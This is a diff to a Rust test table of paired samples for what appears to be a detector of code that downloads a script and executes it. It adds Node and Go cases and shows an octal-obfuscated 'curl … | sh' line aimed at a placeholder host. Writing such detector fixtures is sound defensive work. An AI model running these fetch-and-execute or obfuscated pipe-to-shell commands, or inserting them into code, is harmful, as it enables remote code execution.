@@ -3282,6 +3282,21 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "T='\\143\\165\\162\\154\\040\\150\\164\\164\\160\\163\\072\\057\\057\\170\\056\\145\\170\\141\\155\\160\\154\\145\\056\\156\\145\\164\\057\\151\\040\\174\\040\\163\\150'\nprintf '%b' \"$T\" | sh",
         "T='\\033[1;34m'\nprintf '%b' \"$T\" >&2",
     ),
+    // Batch 19 generality check: the file a download helper is given
+    // beside a URL (`download(url, post)`, `fetch("https://…", rules)`),
+    // then handed to a shell in an argument list, in Node and Go.
+    (
+        "eval-fetched",
+        "scripts/x.js",
+        "https.get(u, (r) => r.pipe(fs.createWriteStream(dst)));\nawait download(`${BASE}/post.sh`, post);\nspawn(\"bash\", [post], { detached: true });",
+        "https.get(u, (r) => r.pipe(fs.createWriteStream(dst)));\nconst post = path.join(__dirname, \"post.sh\");\nspawn(\"bash\", [post], { stdio: \"inherit\" });",
+    ),
+    (
+        "eval-fetched",
+        "tools/x.go",
+        "resp, err := http.Get(url)\n_ = fetch(\"https://rules.example.net/apply.sh\", rules)\n_ = exec.Command(\"sh\", rules).Run()",
+        "resp, err := http.Get(url)\n_ = fetch(\"https://rules.example.net/rules.yaml\", rules)\n_ = exec.Command(\"sh\", script, rules).Run()",
+    ),
 ];
 
 #[test]
